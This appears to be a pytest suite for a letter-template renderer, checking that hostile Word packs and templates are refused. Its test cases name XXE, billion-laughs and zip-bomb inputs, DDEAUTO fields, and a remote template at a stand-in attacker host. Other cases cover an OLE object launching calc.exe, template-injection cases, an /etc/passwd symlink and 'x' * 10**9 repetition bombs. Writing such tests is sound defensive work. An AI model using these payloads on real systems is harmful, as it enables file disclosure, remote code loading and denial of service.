    PackageCase("too_many_parts", too_many_parts, ("parts", "at most 500")),
    PackageCase("renamed_docm", renamed_docm, ("macros", ".docm")),
    PackageCase("macro_content_type", macro_content_type_only, ("macros",)),
    PackageCase("vba_project_part", vba_part_only, ("macros",)),
    PackageCase("activex", activex, ("ActiveX",)),
    PackageCase("embedded_object", embedded_object, ("embeds other files",)),
    PackageCase("xxe", xxe, ("word/document.xml", "DOCTYPE", "XXE")),
    PackageCase("billion_laughs", billion_laughs, ("word/document.xml", "DOCTYPE")),
    PackageCase("doctype_after_4kb", late_doctype, ("word/document.xml", "DOCTYPE")),
    PackageCase("xxe_in_content_types", xxe_in_content_types, ("[Content_Types].xml", "DOCTYPE")),
    PackageCase("attached_template", external_template, ("outside resource", "http://evil.example/normal.dotm")),
    PackageCase("external_ole_object", external_ole, ("outside resource", "calc.exe")),
    PackageCase("external_in_package_rels", external_in_package_rels, ("_rels/.rels", "outside resource")),
    PackageCase("includetext_field", includetext, ("pulls in outside content", "INCLUDETEXT"), paragraph=4),
    PackageCase("ddeauto_field", ddeauto, ("pulls in outside content", "DDEAUTO"), paragraph=4),
    PackageCase("includepicture_simple_field", includepicture_simple, ("INCLUDEPICTURE",), paragraph=4),
    PackageCase("tracked_insertion", tracked_insertion, ("tracked change",), paragraph=4),
    PackageCase("tracked_deletion", tracked_deletion, ("tracked change",), paragraph=4),
    PackageCase("comments", comments, ("word/comments.xml", "review comments", "review comment; delete it"),
                paragraph=4),
    PackageCase("not_well_formed", not_well_formed, ("word/document.xml", "not well-formed XML")),
    PackageCase("no_document_part", no_document, ("not a Word document", "word/document.xml is missing")),
]
NOT_UTF8_CASES = [
    PackageCase("latin1_document", latin1_document, ("word/document.xml", "UTF-8")),
    PackageCase("utf16_xxe", utf16_xxe, ("word/document.xml", "UTF-8")),
]


def check_package_message(case: PackageCase, message: str) -> None:
    for line in message.splitlines():
        assert line.startswith("template hostile"), f"a line does not name the template: {line!r}"
    for words in case.words:
        assert words in message, f"{words!r} not in: {message}"
    if case.paragraph is not None:
        assert f", paragraph {case.paragraph} (\u201c" in message, message
    assert "root:" not in message, "the contents of /etc/passwd leaked into the message"
    assert "Traceback" not in message


@pytest.mark.timeout(HANG)
@pytest.mark.parametrize("case", PACKAGE_CASES, ids=lambda c: c.id)
def test_hostile_package_refused(case: PackageCase, tmp_path: Path) -> None:
    folder = h.write_raw_docx(tmp_path / "pack", case.make())
    message = refusal(folder)
    check_package_message(case, message)


@pytest.mark.timeout(HANG)
@pytest.mark.parametrize("case", NOT_UTF8_CASES, ids=lambda c: c.id)
def test_part_not_in_utf8_is_refused(case: PackageCase, tmp_path: Path) -> None:
    folder = h.write_raw_docx(tmp_path / "pack", case.make())
    check_package_message(case, refusal(folder))


def test_package_checks_report_not_utf8_and_hidden_doctype() -> None:
    from app.rendering.package import check_members

    for case in NOT_UTF8_CASES:
        findings = [str(f) for f in check_members(h.members_of(case.make()))]
        assert any("word/document.xml" in f and "not UTF-8" in f for f in findings), findings


def test_xml_parser_never_resolves_entities() -> None:
    """Even a DOCTYPE the check missed would not be expanded by the parser the engine uses."""
    from lxml import etree

    xml = h.with_doctype(base(), XXE, "&xxe;")[h.DOCUMENT]
    root = etree.fromstring(xml, SAFE_PARSER)
    assert "root:" not in etree.tostring(root).decode()
    laughs = h.with_doctype(base(), LAUGHS, "&lol9;")[h.DOCUMENT]
    with pytest.raises(etree.XMLSyntaxError, match="amplification"):  # libxml2 refuses it outright
        etree.fromstring(laughs, SAFE_PARSER)


# --- the command line ---------------------------------------------------------------------------
CLI_LIMIT = 1 << 30  # address space for the CLI process: a real bomb would hit this and crash


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (CLI_LIMIT, CLI_LIMIT))

    return subprocess.run([sys.executable, str(ROOT / "main.py"), *args], capture_output=True, text=True,
                          timeout=HANG, preexec_fn=limit, env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"})


def by_id(cases: list[Any], wanted: str) -> Any:
    return next(c for c in cases if c.id == wanted)


CLI_CASES = [
    pytest.param("template", "ssti_cycler", id="ssti"),
    pytest.param("template", "safe_filter", id="safe-filter"),
    pytest.param("template", "if_without_endif", id="broken-syntax"),
    pytest.param("runtime", "string_times_billion", id="runtime-repetition"),
    pytest.param("runtime", "nested_list_loops", id="runtime-nested-loops"),
    pytest.param("identity", "loop_variable_named_range", id="range-named-loop-variable"),
    pytest.param("identity", "format_method_printed", id="format-method"),
    pytest.param("identity", "list_of_references_sorted", id="sorted-references"),
    pytest.param("package", "zip_bomb_200mb", id="zip-bomb"),
    pytest.param("package", "xxe", id="xxe"),
    pytest.param("package", "renamed_docm", id="docm"),
]


def build_cli_case(kind: str, case_id: str, folder: Path, marker: Path) -> tuple[Path, tuple[str, ...]]:
    if kind == "package":
        package_case = by_id(PACKAGE_CASES, case_id)
        return h.write_raw_docx(folder, package_case.make()), package_case.words
    cases = {"template": TEMPLATE_CASES, "runtime": RUNTIME_CASES, "identity": IDENTITY_CASES}[kind]
    case = by_id(cases, case_id)
    return build(case, folder, marker), case.words


@pytest.mark.timeout(HANG)
@pytest.mark.parametrize(("kind", "case_id"), CLI_CASES)
def test_cli_render_exits_3_and_writes_nothing(kind: str, case_id: str, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    folder, words = build_cli_case(kind, case_id, tmp_path / "pack", marker)
    data = tmp_path / "letter.json"
    data.write_text(json.dumps(letter_data()), encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    earlier = out / "earlier.docx"  # a letter the clerk made before, with a good pack
    made = run_cli("render", "--template", "officials-concern", "--data", str(data), "--out", str(earlier))
    assert made.returncode == 0, made.stderr
    before = earlier.read_bytes()
    for target in (out / "new.docx", earlier):
        proc = run_cli("render", "--template", str(folder), "--data", str(data), "--out", str(target))
        assert proc.returncode == 3, proc.stderr
        assert proc.stderr.startswith("The template cannot be used:\n  template hostile"), proc.stderr
        for word in words:
            assert word in proc.stderr
        assert "Traceback" not in proc.stderr
        assert proc.stdout == ""
        assert sorted(p.name for p in out.iterdir()) == ["earlier.docx"], "a file or temporary file was written"
        assert earlier.read_bytes() == before
    assert not marker.exists()


@pytest.mark.timeout(HANG)
@pytest.mark.parametrize(("kind", "case_id"), CLI_CASES)
def test_cli_templates_check_agrees_with_render(kind: str, case_id: str, tmp_path: Path) -> None:
    """Whatever ``render`` refuses with exit 3, ``templates check`` refuses too, in bounded memory."""
    folder, words = build_cli_case(kind, case_id, tmp_path / "pack", tmp_path / "pwned")
    proc = run_cli("templates", "check", str(folder))
    assert proc.returncode == 3, proc.stdout + proc.stderr
    assert proc.stdout == ""
    assert "Traceback" not in proc.stderr
    for word in words:
        assert word in proc.stderr
    assert not (tmp_path / "pwned").exists()


@pytest.mark.timeout(HANG)
@pytest.mark.parametrize(("kind", "case_id", "lines"), [
    ("template", "ssti_cycler", 5),
    ("template", "ssti_subclasses", 4),
    ("package", "comments", 2),
    ("package", "xxe", 1),
])
def test_cli_templates_check_exits_3_listing_every_finding(kind: str, case_id: str, lines: int,
                                                           tmp_path: Path) -> None:
    folder, words = build_cli_case(kind, case_id, tmp_path / "pack", tmp_path / "pwned")
    proc = run_cli("templates", "check", str(folder))
    assert proc.returncode == 3, proc.stdout + proc.stderr
    findings = proc.stderr.splitlines()
    assert len(findings) == lines, proc.stderr
    assert all(line.startswith("template hostile") for line in findings), proc.stderr
    for word in words:
        assert word in proc.stderr
    assert "sound" not in proc.stdout


@pytest.mark.timeout(HANG)
def test_cli_templates_check_refuses_a_pack_that_only_fails_when_rendered(tmp_path: Path) -> None:
    """The static check cannot see every limit; the trial renders of ``templates check`` can,
    so check and render agree: both exit 3, naming the same paragraph and the same limit."""
    case = by_id(RUNTIME_CASES, "replace_squared")
    folder = build(case, tmp_path / "pack", tmp_path / "pwned")
    check = run_cli("templates", "check", str(folder))
    assert check.returncode == 3, check.stdout + check.stderr
    assert "sound" not in check.stdout
    assert "replace would produce more text than a letter can hold" in check.stderr
    assert "found by rendering a letter at every size limit" in check.stderr
    assert_names_paragraph(check.stderr, case.payload)
    data = tmp_path / "letter.json"
    data.write_text(json.dumps(letter_data()), encoding="utf-8")
    proc = run_cli("render", "--template", str(folder), "--data", str(data), "--out", str(tmp_path / "x.docx"))
    assert proc.returncode == 3
    assert "replace would produce more text than a letter can hold" in proc.stderr
    assert not (tmp_path / "x.docx").exists()


# --- templates check agrees with rendering ------------------------------------------------------
SOUND_CASES = [
    Case("sound_loops", "{% for a in concerns[:3] %}{% for b in concerns[-3:] %}{{ a ~ b }}{% endfor %}{% endfor %}",
         ()),
    Case("sound_filters",
         "{{ subject|replace('S', 's')|truncate(40) }} {{ concerns|length }} {{ range(3)|join(', ') }}", ()),
    Case("sound_arithmetic",
         "{{ 2**10 }} {{ 'ab' * 3 }} {{ (concerns|length) // 7 - 1 }} {{ -(concerns|length) }}", ()),
    # Every name in one paragraph, and every whole inside address in one paragraph: sound since a
    # letter's whole text is capped (it was refused while 100 addressees of 8 lines of 20,000
    # characters were a valid letter).
    Case("sound_addressees",
         "{% for a in addressees %}{{ a.name_line }}{% if not loop.last %}; {% endif %}{% endfor %}", ()),
    Case("sound_every_inside_address", "{% for a in addressees %}{{ a.block }} {% endfor %}", ()),
    Case("sound_every_paragraph_filtered",
         "{% for p in opening + concerns %}{{ p|trim|upper }}{% endfor %}"
         "{% for p in requested_policies + closing %}{{ p|trim|lower }}{% endfor %}", ()),
    Case("sound_nested_hundred",
         "{% for a in concerns %}{% for b in concerns %}{{ loop.index }}{% endfor %}{% endfor %}", ()),
]


# Bombs behind the branches a letter takes only as a draft, or only once a judge has signed it.
BRANCH_CASES = [
    Case("bomb_in_drafts_only", "{% if draft %}{{ 'x' * 10**9 }}{% endif %}", ("repetition", "as a draft")),
    Case("bomb_once_signed", "{% if signature_image %}{{ 'x' * 10**9 }}{% endif %}",
         ("repetition", "as a final, signed letter")),
]


def render_fails(folder: Path, letters: list[Letter]) -> bool:
    """Whether compiling the pack, or rendering any of ``letters`` with it (as a draft, and
    final with a signature, as the application renders letters), fails."""
    from app.rendering.trial import _trial_signature

    try:
        pack = CompiledPack(folder)
        for letter in letters:
            pack.render(letter, draft=True)
            pack.render(letter, draft=False, signature_png=_trial_signature())
    except TemplateProblem:
        return True
    return False


def every_case() -> list[Any]:
    return ([pytest.param("template", c, id=f"template-{c.id}") for c in TEMPLATE_CASES]
            + [pytest.param("runtime", c, id=f"runtime-{c.id}") for c in RUNTIME_CASES]
            + [pytest.param("identity", c, id=f"identity-{c.id}") for c in IDENTITY_CASES]
            + [pytest.param("branch", c, id=f"branch-{c.id}") for c in BRANCH_CASES]
            + [pytest.param("package", c, id=f"package-{c.id}") for c in PACKAGE_CASES + NOT_UTF8_CASES]
            + [pytest.param("sound", c, id=f"sound-{c.id}") for c in SOUND_CASES])


@pytest.mark.timeout(HANG)
@pytest.mark.parametrize(("kind", "case"), every_case())
def test_templates_check_says_unsound_exactly_when_a_render_fails(kind: str, case: Any, tmp_path: Path,
                                                                  big_letter: Letter) -> None:
    """For every case in the corpus: ``templates check`` (``TemplateLibrary.check``, what the
    command runs) calls the pack unsound if and only if rendering a letter with it fails: the
    corpus's own large letter, or the largest letter the data contract allows."""
    from app.core.stress import stress_letters
    from app.services.templates import TemplateLibrary

    marker = tmp_path / "pwned"
    if kind == "package":
        folder = h.write_raw_docx(tmp_path / "pack", case.make())
    else:
        folder = build(case, tmp_path / "pack", marker)
    # The check renders the letters at every size limit (each 120,000 characters of text).
    with bounded(megabytes=CHECK_MEGABYTES):
        findings = TemplateLibrary([]).check(folder)
    try:
        letters = [big_letter, *stress_letters(load_manifest(folder / "manifest.yaml"))]
    except TemplateProblem:
        letters = [big_letter]
    fails = render_fails(folder, letters)
    assert bool(findings) == fails, (findings, fails)
    assert (kind == "sound") == (not fails), f"the corpus misfiled {case.id}"
    for line in findings:
        assert line.startswith("template hostile"), line
        assert "Traceback" not in line
    assert not marker.exists()


# --- the sample letter ``templates check`` renders ------------------------------------------------
def sample_pack(folder: Path, paragraph: str = "Re: {{ subject }}") -> Path:
    return h.make_pack(folder, ["Dear Justice,", paragraph])


def sample_json(**changes: Any) -> str:
    return json.dumps({**letter_data(concerns=2, subject="Court security"), **changes})


@pytest.mark.timeout(HANG)
def test_check_renders_the_sample_letter_and_names_it(tmp_path: Path) -> None:
    """A template that fails only for the pack's own sample: the check finds it there."""
    payload = "{% if concerns|length == 2 %}{{ 'x' * 10**9 }}{% endif %}"
    folder = sample_pack(tmp_path / "pack", payload)
    (folder / "sample.json").write_text(sample_json(), encoding="utf-8")
    from app.rendering.engine import check_pack

    findings = check_pack(folder)
    assert len(findings) == 1, findings
    assert "repetition in the template is too large" in findings[0]
    assert "(found by rendering the pack's sample letter as a draft)" in findings[0]
    assert_names_paragraph(findings[0], payload)


@pytest.mark.timeout(HANG)
@pytest.mark.parametrize("case", BRANCH_CASES, ids=lambda c: c.id)
def test_check_renders_drafts_and_signed_letters(case: Case, tmp_path: Path) -> None:
    from app.rendering.engine import check_pack

    findings = check_pack(build(case, tmp_path / "pack", tmp_path / "pwned"))
    assert len(findings) == 1, findings
    for words in case.words:
        assert words in findings[0]
    assert_names_paragraph(findings[0], case.payload)


@pytest.mark.timeout(HANG)
def test_a_sound_pack_with_a_sample_is_sound(tmp_path: Path) -> None:
    folder = sample_pack(tmp_path / "pack")
    (folder / "sample.json").write_text(sample_json(), encoding="utf-8")
    proc = run_cli("templates", "check", str(folder))
    assert proc.returncode == 0, proc.stderr
    assert "the template pack is sound" in proc.stdout
    assert "a letter at every size limit" in proc.stdout


@pytest.mark.timeout(HANG)
def test_an_invalid_sample_is_named_with_its_path(tmp_path: Path) -> None:
    folder = sample_pack(tmp_path / "pack")
    (folder / "sample.json").write_text(sample_json(subject="  "), encoding="utf-8")
    from app.rendering.engine import check_pack

    assert check_pack(folder) == ["template hostile: sample.json is not a valid letter: subject: required"]
    (folder / "sample.json").write_text('{"date": ', encoding="utf-8")
    assert check_pack(folder) == ["template hostile: sample.json is not valid letter JSON (line 1)"]


@pytest.mark.timeout(HANG)
def test_a_sample_that_is_not_a_plain_file_is_refused_unread(tmp_path: Path) -> None:
    """A link to a system file is never read (nor quoted); a FIFO never blocks the check."""
    from app.rendering.engine import check_pack

    folder = sample_pack(tmp_path / "pack")
    if PASSWD.exists():
        (folder / "sample.json").symlink_to(PASSWD)
        findings = check_pack(folder)
        assert len(findings) == 1, findings
        assert "sample.json cannot be read" in findings[0]
        assert "root:" not in findings[0]
        (folder / "sample.json").unlink()
    os.mkfifo(folder / "sample.json")
    findings = check_pack(folder)
    assert findings == ["template hostile: sample.json is not a plain file"], findings


@pytest.mark.timeout(HANG)
def test_an_oversized_sample_is_refused_before_it_is_read(tmp_path: Path) -> None:
    from app.rendering.engine import check_pack
    from app.rendering.trial import MAX_SAMPLE_BYTES

    folder = sample_pack(tmp_path / "pack")
    with (folder / "sample.json").open("wb") as stream:
        stream.truncate(MAX_SAMPLE_BYTES + 1)  # sparse: nothing is written, the size is what counts
    with bounded(megabytes=CHECK_MEGABYTES):
        findings = check_pack(folder)
    assert findings == ["template hostile: sample.json is larger than 8 MB"], findings


def test_passwd_is_readable_so_the_xxe_cases_mean_something() -> None:
    if not PASSWD.exists():
        pytest.skip("no /etc/passwd here")
    assert "root:" in PASSWD.read_text(encoding="utf-8", errors="replace")
